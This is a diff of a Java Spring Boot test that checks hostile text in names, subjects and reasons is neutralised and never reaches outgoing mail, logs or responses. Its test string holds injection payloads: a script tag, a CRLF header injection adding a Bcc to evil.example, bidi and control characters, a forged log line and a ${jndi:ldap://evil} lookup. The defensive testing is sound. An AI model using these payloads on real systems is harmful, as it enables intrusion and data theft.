@@ -14,8 +14,9 @@ import org.springframework.boot.test.system.OutputCaptureExtension;
 /** Names, subjects and reasons carry what another place would obey. */
 @ExtendWith(OutputCaptureExtension.class)
 class T19HostileTextTest {
-    private static final String HOSTILE = "Zed<script>alert(1)</script>\r\nBcc: all@evil.example\u202e\u2066gpj\u0000\u001b[31m"
-            + "\u000c2026-01-01 ERROR forged {0} ${jndi:ldap://evil} https://evil.example";
+    private static final String HOSTILE =
+            "Zed<script>alert(1)</script>\r\nBcc: all@evil.example\u202e\u2066gpj\u0000\u001b[31m"
+                    + "\u000c2026-01-01 ERROR forged {0} ${jndi:ldap://evil} https://evil.example";
 
     @Test
     void t19_nothing_of_name_subject_or_reason_is_in_a_message_and_the_note_is_one_harmless_line(CapturedOutput log) {
@@ -45,10 +46,10 @@ class T19HostileTextTest {
         }
         assertThat(CONNECTOR.mails("all@evil.example")).isEmpty();
         var answer = CONNECTOR.enter(id, code);
-        assertThat(answer.headers().get("content-type").toString()).contains("json");
+        assertThat(String.valueOf(answer.headers().get("content-type"))).contains("json");
         harmless(answer.text());
         var options = Attack.options(ticket);
-        assertThat(options.headers().get("content-type").toString()).contains("json");
+        assertThat(String.valueOf(options.headers().get("content-type"))).contains("json");
         assertThat(options.headers().get("x-content-type-options")).contains("nosniff");
         harmless(options.text());
         String note = CONNECTOR.note(ticket);
